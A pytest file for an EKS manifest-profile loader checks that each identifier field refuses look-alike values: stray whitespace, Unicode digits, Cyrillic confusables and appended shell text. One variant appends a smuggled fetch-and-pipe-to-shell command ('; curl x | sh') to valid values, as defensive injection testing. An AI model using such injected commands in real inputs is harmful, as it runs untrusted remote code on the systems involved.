"""Every identifier field refuses look-alikes of a valid value: the whole string must match, ASCII only."""

from __future__ import annotations

from typing import Any

import pytest
from ruamel.yaml import YAML

from eksnet_manifests.errors import SpecError
from eksnet_manifests.profile.load import parse_field, parse_profile

ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")
CYRILLIC = str.maketrans("aeoc", "аеос")  # U+0430, U+0435, U+043E, U+0441

BASE: dict[str, Any] = {
    "cluster": {
        "name": "myeks",
        "region": "ap-northeast-2",
        "vpcId": "vpc-0123456789abcdef0",
        "accountId": "111122223333",
        "kubernetesVersion": "1.34",
        "availabilityZones": ["ap-northeast-2a"],
    },
    "nodeGroups": [{"name": "primary", "instanceType": "t3.medium", "desiredSize": 3}],
    "loadBalancerController": {
        "version": "v3.1.0",
        "chartVersion": "3.1.0",
        "identity": {
            "type": "irsa",
            "roleName": "lbc-role",
            "oidcProvider": "https://oidc.eks.ap-northeast-2.amazonaws.com/id/EXAMPLE0123",
        },
    },
    "externalDns": {
        "domainFilters": ["example.com"],
        "hostedZoneIds": ["Z0123456789ABCDEFGHIJ"],
        "txtOwnerId": "myeks",
        "chartVersion": "1.21.1",
        "interval": "1m",
    },
    "defaults": {"namespace": "default"},
    "apps": [
        {
            "name": "echo",
            "namespace": "web",
            "expose": {
                "type": "alb",
                "hosts": ["echo.example.com"],
                "pathPrefix": "/echo",
                "groupName": "shared",
                "certificateArns": [
                    "arn:aws:acm:ap-northeast-2:111122223333:certificate/0a1b2c3d-4e5f-6789-abcd-ef0123456789"
                ],
            },
        }
    ],
}

IDENTIFIER_FIELDS = [
    "cluster.name",
    "cluster.region",
    "cluster.vpcId",
    "cluster.accountId",
    "cluster.kubernetesVersion",
    "cluster.availabilityZones[0]",
    "nodeGroups[0].name",
    "nodeGroups[0].instanceType",
    "loadBalancerController.version",
    "loadBalancerController.chartVersion",
    "loadBalancerController.identity.roleName",
    "loadBalancerController.identity.oidcProvider",
    "externalDns.domainFilters[0]",
    "externalDns.hostedZoneIds[0]",
    "externalDns.txtOwnerId",
    "externalDns.chartVersion",
    "externalDns.interval",
    "defaults.namespace",
    "apps[0].name",
    "apps[0].namespace",
    "apps[0].expose.hosts[0]",
    "apps[0].expose.pathPrefix",
    "apps[0].expose.groupName",
    "apps[0].expose.certificateArns[0]",
]


def _look_alikes(value: str) -> dict[str, str]:
    variants = {
        "trailing-newline": value + "\n",
        "leading-space": " " + value,
        "trailing-space": value + " ",
        "inner-newline": value[:2] + "\n" + value[2:],
        "shell-text": value + "; curl x | sh",
    }
    if any(char.isdigit() for char in value):
        variants["unicode-digits"] = value.translate(ARABIC_INDIC)
    if any(char in "aeoc" for char in value):
        variants["confusable-letters"] = value.translate(CYRILLIC)
    return variants


def _with(path: str, value: str) -> dict[str, Any]:
    data = YAML(typ="safe").load(_dump(BASE))
    node = data
    parts = parse_field(path)
    for part in parts[:-1]:
        node = node[part]
    node[parts[-1]] = value
    return data


def _dump(data: dict[str, Any]) -> str:
    import io

    stream = io.StringIO()
    YAML(typ="safe").dump(data, stream)
    return stream.getvalue()


def _value_at(path: str) -> str:
    node: Any = BASE
    for part in parse_field(path):
        node = node[part]
    return node


def test_base_profile_of_the_corpus_is_valid() -> None:
    parse_profile(_dump(BASE), "eksnet.yaml")


CASES = [
    pytest.param(path, variant, id=f"{path}-{name}")
    for path in IDENTIFIER_FIELDS
    for name, variant in _look_alikes(_value_at(path)).items()
]


@pytest.mark.parametrize(("path", "value"), CASES)
def test_identifier_look_alike_is_refused_naming_file_line_and_field(path: str, value: str) -> None:
    # GIVEN a valid profile with one identifier replaced by a look-alike of its valid value
    text = _dump(_with(path, value))
    # WHEN it is loaded THEN it is refused at that field's line
    with pytest.raises(SpecError) as caught:
        parse_profile(text, "eksnet.yaml")
    error = caught.value
    assert error.location.file == "eksnet.yaml"
    assert error.location.line is not None
    assert error.location.field == path
